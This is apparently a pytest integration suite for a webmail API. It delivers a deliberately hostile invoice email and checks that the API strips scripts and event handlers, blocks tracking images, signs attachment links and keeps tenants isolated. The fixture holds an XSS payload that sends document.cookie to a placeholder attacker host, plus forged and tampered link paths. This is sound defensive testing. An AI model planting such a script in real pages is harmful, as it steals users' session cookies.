"""Reading a message through the webmail API, against real Postfix and Dovecot: a
multipart message with a text part, HTML with a cid: image, a remote image and a script,
and a PDF, delivered over SMTP and opened as its user."""

from __future__ import annotations

import email
import email.policy
import imaplib
import re
import secrets
from collections.abc import Callable
from email.message import EmailMessage
from html.parser import HTMLParser
from urllib.parse import quote, urlsplit

import pytest
from fastapi.testclient import TestClient

from tests.mailstack.support import MailStack
from tests.mailstack.webmail.conftest import MailUser

pytestmark = pytest.mark.mailstack

BASE = "/api/v1/mail/webmail/messages"
LOGO = b"\x89PNG\r\n\x1a\n" + secrets.token_bytes(64)
PDF = b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n" + secrets.token_bytes(300) + b"\n%%EOF\n"


def _hostile(to: str) -> tuple[EmailMessage, str]:
    """The message and an ASCII token of its subject to find it by."""
    token = f"inv-{secrets.token_hex(4)}"
    msg = EmailMessage()
    msg["From"] = "=?utf-8?q?J=C3=BCrgen?= <juergen@outside.test>"
    msg["To"] = to
    msg["Subject"] = f"Rechnung {token} =?utf-8?q?f=C3=BCr_Sie?="
    msg["Message-ID"] = f"<{secrets.token_hex(8)}@outside.test>"
    msg["Date"] = "Mon, 23 Nov 2026 06:00:00 +0000"
    msg.set_content("Hello,\n\nyour invoice is attached.\n")
    msg.add_alternative(
        '<p onclick="steal()">Hello <img src="cid:logo@outside.test" alt="logo">'
        '<img src="https://tracker.outside.test/pixel.gif">'
        "<script>fetch('https://evil.outside.test/'+document.cookie)</script></p>",
        subtype="html",
    )
    html = msg.get_payload(1)
    assert isinstance(html, EmailMessage)
    html.add_related(LOGO, maintype="image", subtype="png", cid="<logo@outside.test>")
    msg.add_attachment(PDF, maintype="application", subtype="pdf", filename="Rechnung März.pdf")
    # Parsed back, so that its boundaries are fixed: what is delivered is what we compare.
    fixed = email.message_from_bytes(msg.as_bytes(), policy=email.policy.default)
    assert isinstance(fixed, EmailMessage)
    return fixed, token


def _uid(mailstack: MailStack, user: MailUser, subject: str) -> int:
    mailstack.wait_for(user.email, user.password, subject)  # (reads it: RFC822 sets \\Seen)
    client = mailstack.imap(user.email, user.password)
    try:
        client.select("INBOX")
        _, data = client.uid("SEARCH", "SUBJECT", subject)
        uid = int(data[0].split()[-1])
        client.uid("STORE", str(uid), "-FLAGS.SILENT", "(\\Seen)")
        return uid
    finally:
        client.logout()


def _seen(mailstack: MailStack, user: MailUser, uid: int) -> bool:
    client: imaplib.IMAP4 = mailstack.imap(user.email, user.password)
    try:
        client.select("INBOX", readonly=True)
        _, data = client.uid("FETCH", str(uid), "(FLAGS)")
        return b"\\Seen" in (data[0] if isinstance(data[0], bytes) else b"")
    finally:
        client.logout()


class _Images(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.sources: list[str | None] = []
        self.attributes: list[str] = []
        self.tags: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [name for name, _ in attrs]
        if tag == "img":
            self.sources.append(dict(attrs).get("src"))


def _path_of(url: str) -> str:
    parts = urlsplit(url)
    return f"{parts.path}?{parts.query}"


def test_a_message_reads_sanitized_with_its_parts(
    mailstack: MailStack, mail_user: Callable[..., MailUser], mail_client: TestClient
) -> None:
    user = mail_user()
    msg, token = _hostile(user.email)
    mailstack.deliver(msg, user.email)
    uid = _uid(mailstack, user, token)

    answer = user.web.get(f"{BASE}/INBOX/{uid}", params={"mark_seen": "false"})
    assert answer.status_code == 200, answer.text
    view = answer.json()
    assert view["subject"] == f"Rechnung {token} für Sie"
    assert view["from"] == [{"name": "Jürgen", "address": "juergen@outside.test"}]
    assert view["to"] == [{"name": "", "address": user.email}]
    assert view["message_id"] == msg["Message-ID"]
    assert view["text"] == "Hello,\n\nyour invoice is attached.\n"
    assert view["preview"] == "Hello, your invoice is attached."
    assert view["remote_images_blocked"] == 1
    assert "\\Seen" not in view["flags"]
    assert not _seen(mailstack, user, uid)

    html = view["html"]
    parsed = _Images()
    parsed.feed(html)
    assert "script" not in parsed.tags
    assert not [name for name in parsed.attributes if name.startswith("on")]
    assert "tracker.outside.test" not in html
    assert "evil.outside.test" not in html
    (logo_url,) = [src for src in parsed.sources if src]
    assert f"/INBOX/{uid}/parts/" in logo_url

    # The browser loads the cid: image without our Authorization header: the link is signed.
    logo = mail_client.get(_path_of(logo_url))
    assert logo.status_code == 200, logo.text
    assert logo.content == LOGO
    assert logo.headers["content-type"] == "image/png"
    assert logo.headers["content-disposition"].startswith("inline;")
    assert logo.headers["x-content-type-options"] == "nosniff"

    by_type = {a["content_type"]: a for a in view["attachments"]}
    pdf = by_type["application/pdf"]
    assert (pdf["filename"], pdf["size"], pdf["inline"]) == ("Rechnung März.pdf", len(PDF), False)
    assert by_type["image/png"]["inline"] is True
    assert by_type["image/png"]["content_id"] == "logo@outside.test"

    for download in (
        user.web.get(f"{BASE}/INBOX/{uid}/attachments/{pdf['part']}"),
        mail_client.get(_path_of(pdf["url"])),
    ):
        assert download.status_code == 200, download.text
        assert download.content == PDF
        assert download.headers["content-type"] == "application/pdf"
        assert download.headers["content-disposition"] == (
            "attachment; filename=\"Rechnung M?rz.pdf\"; filename*=UTF-8''Rechnung%20M%C3%A4rz.pdf"
        )
        assert download.headers["x-content-type-options"] == "nosniff"
        assert download.headers["content-security-policy"] == "sandbox"

    # A signed link opens only the part it names, and only unaltered.
    other_part = _path_of(pdf["url"]).replace(f"/attachments/{pdf['part']}?", "/attachments/1?")
    assert mail_client.get(other_part).status_code == 401
    tampered = re.sub(r"sig=[0-9a-f]", "sig=x", _path_of(pdf["url"]))
    assert mail_client.get(tampered).json()["error"] == "invalid_link"

    raw = user.web.get(f"{BASE}/INBOX/{uid}/raw")
    assert raw.status_code == 200
    assert raw.headers["content-type"] == "message/rfc822"
    assert raw.headers["content-disposition"].startswith("attachment;")
    delivered = msg.as_bytes().replace(b"\r\n", b"\n").replace(b"\n", b"\r\n")
    assert raw.content.endswith(delivered)  # Postfix and Dovecot only add trace headers
    assert raw.content.startswith(b"Return-Path:")

    # Opening it like a mail client does marks it read.
    assert not _seen(mailstack, user, uid)
    opened = user.web.get(f"{BASE}/INBOX/{uid}")
    assert "\\Seen" in opened.json()["flags"]
    assert _seen(mailstack, user, uid)


def test_remote_images_load_on_request(
    mailstack: MailStack, mail_user: Callable[..., MailUser]
) -> None:
    user = mail_user()
    msg, token = _hostile(user.email)
    mailstack.deliver(msg, user.email)
    uid = _uid(mailstack, user, token)
    view = user.web.get(f"{BASE}/INBOX/{uid}", params={"images": "remote"}).json()
    assert view["remote_images_blocked"] == 0
    assert 'src="https://tracker.outside.test/pixel.gif"' in view["html"]
    assert 'referrerpolicy="no-referrer"' in view["html"]


def test_unknown_folders_messages_and_parts_are_404_and_bad_ids_422(
    mailstack: MailStack, mail_user: Callable[..., MailUser]
) -> None:
    user = mail_user()
    msg, token = _hostile(user.email)
    mailstack.deliver(msg, user.email)
    uid = _uid(mailstack, user, token)
    cases = [
        (f"{BASE}/{quote('Nöpe/Nested')}/{uid}", 404, "folder_not_found"),
        (f"{BASE}/INBOX/{uid + 1000}", 404, "message_not_found"),
        (f"{BASE}/INBOX/{uid}/attachments/9", 404, "part_not_found"),
        (f"{BASE}/INBOX/{uid}/attachments/1.x", 422, "invalid_part"),
        (f"{BASE}/INBOX/0", 422, None),
        # Not a UID: the path names a folder ("INBOX/abc"), which does not exist.
        (f"{BASE}/INBOX/-3", 404, "folder_not_found"),
        (f"{BASE}/INBOX/abc", 404, "folder_not_found"),
        (f"{BASE}/INBOX/99999999999", 422, None),
    ]
    for path, status, code in cases:
        answer = user.web.get(path)
        assert answer.status_code == status, (path, answer.text)
        assert "error" in answer.json()
        if code is not None:
            assert answer.json()["error"] == code, path


def test_another_tenants_user_cannot_reach_the_message(
    mailstack: MailStack, mail_user: Callable[..., MailUser], mail_client: TestClient
) -> None:
    owner = mail_user()
    stranger = mail_user()  # a fresh tenant of its own
    assert stranger.tenant_id != owner.tenant_id
    msg, token = _hostile(owner.email)
    mailstack.deliver(msg, owner.email)
    uid = _uid(mailstack, owner, token)
    view = owner.web.get(f"{BASE}/INBOX/{uid}", params={"mark_seen": "false"}).json()
    pdf = next(a for a in view["attachments"] if a["content_type"] == "application/pdf")

    # Interleave both users so the pool has the owner's connection idle when B asks.
    for _ in range(2):
        assert owner.web.get(f"{BASE}/INBOX/{uid}").status_code == 200
        for path in (
            f"{BASE}/INBOX/{uid}",
            f"{BASE}/INBOX/{uid}/raw",
            f"{BASE}/INBOX/{uid}/attachments/{pdf['part']}",
            f"{BASE}/INBOX/{uid}/parts/{pdf['part']}",
        ):
            answer = stranger.web.get(path)
            assert answer.status_code == 404, (path, answer.text)
            assert answer.json()["error"] in {"message_not_found", "folder_not_found"}

    # The owner's signed link does not become the stranger's by swapping the mailbox id.
    forged = _path_of(pdf["url"]).replace(f"m={owner.id}", f"m={stranger.id}")
    assert mail_client.get(forged).status_code == 401
    assert stranger.web.get(f"{BASE}/INBOX/{uid}", params={"mark_seen": "false"}).status_code == 404
